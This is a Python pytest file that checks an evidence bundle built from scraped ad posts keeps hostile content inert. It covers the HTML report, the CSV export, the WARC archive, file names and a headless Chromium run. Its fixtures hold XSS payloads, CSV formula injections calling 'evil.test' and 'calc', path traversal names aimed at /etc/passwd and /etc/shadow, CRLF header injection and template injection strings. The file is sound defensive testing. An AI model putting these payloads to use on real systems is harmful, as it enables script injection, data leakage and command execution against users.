"""Hostile scraped content stays inert in a bundle's report, CSV and files (issue 7)."""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from bundle_seed import Verdict, png_bytes  # noqa: E402

from storage import Artifact, Capture, Post, save_post  # noqa: E402
from storage.bundle import build_bundle  # noqa: E402
from storage.verify_bundle import verify_bundle  # noqa: E402

CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run", "--disable-quic"]
AT = datetime(2026, 11, 3, 10, 0, tzinfo=UTC)

HOSTILE_TEXT = (
    "<script>window.__pwned='script';alert('script')</script>\n"
    "<img src=x onerror=\"window.__pwned='onerror';alert('onerror')\">\n"
    "<a href=\"javascript:alert('js-link')\">clique ici</a>\n"
    "<div style=\"background:url(http://evil.test/css.png)\">css</div>\n"
    "<style>body{background:url('http://evil.test/style.png')}</style>\n"
    "<link rel=stylesheet href=http://evil.test/x.css><iframe src=\"http://evil.test/frame\"></iframe>\n"
    "<svg onload=\"alert('svg')\"></svg><object data=http://evil.test/o></object>\n"
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.test/refresh\">\n"
    "=HYPERLINK(\"http://evil.test/?leak\",\"Cliquez\") \u202egnp.exe {{ 7*7 }} {% raw %}x"
)


@pytest.fixture
def hostile(workspace):
    ws = workspace
    big = "A" * (5 * 1024 * 1024)
    posts = [
        dict(external_id="h1", url="javascript:alert('url')", title="=HYPERLINK(\"http://evil.test\",\"x\")",
             text=HOSTILE_TEXT, author="\"><img src=http://evil.test/a.png onerror=alert('author')>",
             author_handle="@evil\u202eresu"),
        dict(external_id="h2", url="https://ads.example/h2?<script>alert(1)</script>", title="+cmd|' /C calc'!A0",
             text=big, author="-2+3", author_handle="@SUM(1+1)"),
        dict(external_id="h3", url="https://ads.example/h3\"><script>alert(3)</script>", title="\t=1+1",
             text="\r=cmd normal", author="{{ config }}", author_handle="{% for x in range(9999999) %}"),
    ]
    ids = []
    for n, kw in enumerate(posts):
        p = Post(platform="leboncoin", source="ads.example", posted_at=AT, fetched_at=AT, **kw)
        html = ("<html><body><script>fetch('http://evil.test/warc')</script>"
                f"<img src='http://evil.test/i.png'>{kw['text'][:2000]}</body></html>").encode()
        cap = Capture(url=kw["url"], http_status=200, fetched_at=AT,
                      headers={"Content-Type": "text/html", "X-Evil": "a\r\nSet-Cookie: pwned=1",
                               "Bad\r\nHeader": "x"},
                      artifacts=[Artifact(role="raw_html", data=html, mime="text/html", name="../../../etc/passwd"),
                                 Artifact(role="screenshot", data=png_bytes(n), mime="image/png",
                                          name="..\\..\\windows\\evil.png"),
                                 Artifact(role="media", data=b"<svg onload=alert(1)></svg>", mime="image/svg+xml",
                                          name="/etc/shadow.svg")])
        verdict = Verdict("forged_documents", "id_card",
                          reasons=[])
        verdict.reasons = []
        r = save_post(ws, p, cap, verdict=verdict)
        ids.append(r.post_id)
    ws.db.execute("update posts set reasons = ? where id = ?",
                  [json.dumps([{"rule": "<b onmouseover=alert(1)>rule</b>", "term": "<script>alert(2)</script>",
                                "start": 0, "end": 8, "kind": "topic", "weight": 1}]), ids[0]])
    now = "2026-11-10T00:00:00Z"
    ws.db.execute("insert into sellers(id, label, created_at, updated_at, accounts, identifiers) values "
                  "(7, ?, ?, ?, ?, ?)", ["<script>alert('seller')</script>{{ 7*7 }}", now, now,
                                         json.dumps(["javascript:alert(1)"]), json.dumps(["=cmd()"])])
    for pid in ids:
        ws.db.execute("update posts set seller_id = 7 where id = ?", [pid])
    ws.db.execute("insert into seller_links(post_a, post_b, type, weight, evidence, created_at) values (?,?,?,?,?,?)",
                  [ids[0], ids[1], "<img src=x onerror=alert(9)>", 1, json.dumps({"x": "</pre><script>x</script>"}),
                   now])
    return ws, ids


def test_hostile_content_is_inert_in_files(hostile, tmp_path):
    ws, ids = hostile
    res = build_bundle(ws, seller=7, output=tmp_path / "h.zip")
    assert verify_bundle(res.path).ok
    with zipfile.ZipFile(res.path) as zf:
        names = zf.namelist()
        report = zf.read("report.html").decode()
        rows = list(csv.reader(io.StringIO(zf.read("posts.csv").decode("utf-8-sig"))))
        posts = [json.loads(x) for x in zf.read("posts.jsonl").decode().splitlines()]
    # no member name comes from scraped data
    assert all(".." not in n and not n.startswith("/") for n in names)
    assert not any("passwd" in n or "shadow" in n or "evil" in n for n in names)
    # report: escaped, never evaluated as a template, bidi overrides shown
    low = report.lower()
    for bad in ("<script", "<iframe", "<svg", "<object", "<link", "<style>body", "onerror=\"", "href=\"javascript", "src=\"javascript",
                "http-equiv=\"refresh\""):
        assert bad not in low.replace("<style>\nbody", ""), bad
    assert "&lt;script&gt;" in report and "{{ 7*7 }}" in report and "49" not in report.split("{{ 7*7 }}")[0][-5:]
    assert "[U+202E]" in report and "\u202e" not in report
    assert 'href="javascript' not in low
    assert len(report) < 2_000_000  # the 5 MB text is capped in the report, kept whole in posts.jsonl
    assert any(len(p["text"]) == 5 * 1024 * 1024 for p in posts)
    # CSV: every scraped cell that could be a formula is neutralised
    header, data = rows[0], rows[1:]
    for row in data:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (header, cell[:40])
    titles = [r[header.index("title")] for r in data]
    assert "'=HYPERLINK(\"http://evil.test\",\"x\")" in titles
    assert "'\t=1+1" in titles
    # display names of media are reduced to a base name
    arts = [a for p in posts for c in p["captures"] for a in c["artifacts"]]
    assert {a["name"] for a in arts} >= {"passwd", "evil.png", "shadow.svg"}
    # WARC headers cannot be split by CR/LF
    from warcio.archiveiterator import ArchiveIterator

    with zipfile.ZipFile(res.path) as zf, zipfile.ZipFile(io.BytesIO(zf.read("web.wacz"))) as wz:
        warc = wz.read("archive/data.warc.gz")
    for rec in ArchiveIterator(io.BytesIO(warc)):
        if rec.rec_type == "response":
            assert rec.http_headers.get_header("Set-Cookie") is None
            assert "\r" not in (rec.http_headers.get_header("X-Evil") or "")
        else:
            assert not rec.rec_headers.get_header("WARC-Target-URI", "").startswith("javascript")


@pytest.mark.browser
def test_report_in_headless_chromium_runs_nothing_and_fetches_nothing(hostile, tmp_path):
    from playwright.sync_api import sync_playwright

    ws, ids = hostile
    res = build_bundle(ws, seller=7, output=tmp_path / "h.zip")
    out = tmp_path / "x"
    with zipfile.ZipFile(res.path) as zf:
        zf.extractall(out)
    url = (out / "report.html").resolve().as_uri()
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", headless=True, args=CHROMIUM_ARGS)
        try:
            for bypass_csp in (False, True):  # the escaping alone must hold, even without the CSP
                ctx = browser.new_context(bypass_csp=bypass_csp)
                page = ctx.new_page()
                requests, dialogs, errors = [], [], []
                page.on("request", lambda r, requests=requests: requests.append(r.url))
                page.on("dialog", lambda d, dialogs=dialogs: (dialogs.append(d.message), d.dismiss()))
                page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
                page.goto(url, wait_until="load")
                page.wait_for_timeout(300)
                state = page.evaluate("""() => ({
                    pwned: window.__pwned === undefined ? null : window.__pwned,
                    scripts: document.scripts.length,
                    iframes: document.querySelectorAll('iframe, object, embed, svg, link').length,
                    handlers: [...document.querySelectorAll('*')].filter(
                        e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
                    jsLinks: [...document.querySelectorAll('a[href]')].filter(
                        a => !a.href.startsWith('https://') && !a.href.startsWith('http://')).length,
                    imgs: [...document.images].map(i => i.getAttribute('src')),
                    loaded: [...document.images].filter(i => i.complete && i.naturalWidth > 0).length,
                    text: document.body.innerText.length,
                })""")
                assert state["pwned"] is None
                assert state["scripts"] == 0 and state["iframes"] == 0 and state["handlers"] == 0
                assert state["jsLinks"] == 0
                assert dialogs == []
                assert all(i.startswith("evidence/") for i in state["imgs"]) and len(state["imgs"]) == 3
                assert state["loaded"] == 3  # screenshots display from the extracted bundle, offline
                left = [u for u in requests if not u.startswith(("file://", "data:"))]
                assert left == [], left
                assert state["text"] > 1000
                ctx.close()
        finally:
            browser.close()
